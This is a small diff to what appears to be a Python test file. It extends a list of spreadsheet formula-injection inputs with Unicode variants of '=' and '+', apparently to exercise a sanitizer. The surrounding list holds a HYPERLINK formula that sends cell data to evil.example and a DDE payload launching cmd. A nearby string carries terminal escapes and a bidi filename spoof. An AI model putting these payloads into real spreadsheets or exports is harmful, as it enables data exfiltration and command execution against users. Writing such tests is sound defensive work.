@@ -24,6 +24,7 @@ HARMFUL = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u2066\x9b31m\ud800\x00\r\n[red]x
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
     "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1', "\u00a0=1+1", "\uff1d1+1",
+    "\ufe661+1", "\ufe621",
     "\uff0b1", "\uff0d1+1", "\uff20x", "\x00=1+1", "\u202e=1+1", "\ufeff=1+1", "|calc", "%0A=1",
     "\u2212 1+1", "''=1", "=", "-", "+",
 ]  # fmt: skip
